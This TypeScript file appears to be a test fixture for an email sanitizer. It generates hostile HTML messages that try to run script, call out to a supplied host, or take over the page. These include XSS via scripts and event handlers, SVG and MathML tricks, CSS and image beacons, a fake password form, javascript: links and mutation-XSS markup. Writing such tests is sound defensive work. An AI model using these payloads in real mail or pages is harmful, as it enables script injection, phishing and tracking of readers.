/** Ways in which mail tries to run, to call home, or to take over the page that shows it. `HOME` is where it calls. */
export function hostileMessages(home: string): readonly { readonly name: string; readonly html: string }[] {
  const act = `document.title='taken';try{top.pwned=1}catch{};try{parent.pwned=1}catch{};fetch('${home}/run')`;
  return [
    { name: 'a script', html: `<script>${act}</script><script src="${home}/script.js"></script>` },
    {
      name: 'event handlers',
      html: `<img src=x onerror="${act}"><body onload="${act}"><div onmouseover="${act}" style="width:100%;height:300px">over</div><details open ontoggle="${act}">d</details><marquee onstart="${act}">m</marquee>`,
    },
    {
      name: 'SVG and MathML',
      html: `<svg onload="${act}"><script>${act}</script><image href="${home}/svg.png"/><use href="${home}/use.svg#a"/><animate onbegin="${act}" attributeName="x" dur="1s"/><foreignObject><iframe src="${home}/foreign"></iframe></foreignObject></svg><math><mtext><mglyph><style><img src=x onerror="${act}"></style></mglyph></mtext></math>`,
    },
    { name: 'a refresh', html: `<meta http-equiv="refresh" content="0;url=${home}/refresh">` },
    {
      name: 'remote pictures',
      html: `<img src="${home}/picture.png"><img srcset="${home}/set.png 1x"><picture><source srcset="${home}/source.png"><img></picture><table background="${home}/table.png"><tr><td background="${home}/cell.png">cell</td></tr></table><input type="image" src="${home}/input.png">`,
    },
    {
      name: 'styles that fetch',
      html: `<style>@import "${home}/import.css"; @import url(${home}/import2.css); body{background:url(${home}/body.png)} @font-face{font-family:f;src:url(${home}/font.woff2)} p{font-family:f;list-style:url(${home}/list.png);cursor:url(${home}/cursor.cur),auto}</style><p style="background:url('${home}/inline.png');content:url(${home}/content.png)">styled</p><link rel="stylesheet" href="${home}/sheet.css">`,
    },
    {
      name: 'hints to the browser',
      html: `<link rel="prefetch" href="${home}/prefetch"><link rel="preconnect" href="${home}"><link rel="dns-prefetch" href="${home}"><link rel="preload" as="image" href="${home}/preload.png"><link rel="icon" href="${home}/icon.png"><link rel="manifest" href="${home}/manifest">`,
    },
    {
      name: 'a form that sends itself',
      html: `<form action="${home}/form" method="post" id="f"><input name="password" autofocus onfocus="${act}"><button formaction="${home}/button">Sign in</button></form><form action="/v1/session" method="post"><button>Here</button></form>`,
    },
    {
      name: 'a base and links that are scripts',
      html: `<base href="${home}/"><base target="_top"><a href="javascript:${act}">click</a><a href="data:text/html,<script>${act}</script>">data</a><a href="vbscript:x">vb</a><a href="relative" ping="${home}/ping">relative</a><map name="m"><area href="javascript:${act}" coords="0,0,999,999"></map>`,
    },
    {
      name: 'frames and plug-ins',
      html: `<iframe src="${home}/frame"></iframe><iframe srcdoc="<script>${act}</script>"></iframe><iframe src="javascript:${act}"></iframe><object data="${home}/object"></object><embed src="${home}/embed"><frameset><frame src="${home}/frameset"></frameset><portal src="${home}/portal"></portal>`,
    },
    {
      name: 'sound, film and templates',
      html: `<video src="${home}/video" poster="${home}/poster.png" autoplay></video><audio src="${home}/audio" autoplay></audio><video><track src="${home}/track" default></video><template shadowrootmode="open"><img src="${home}/shadow.png" onerror="${act}"></template>`,
    },
    {
      name: 'broken markup',
      html: `<noscript><p title="</noscript><img src=x onerror=${home}>"></noscript><textarea></textarea><img src=x onerror="${act}"><!--><img src=x onerror="${act}">--><style></style><img src="x" onerror="${act}"></style><xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
    },
  ];
}
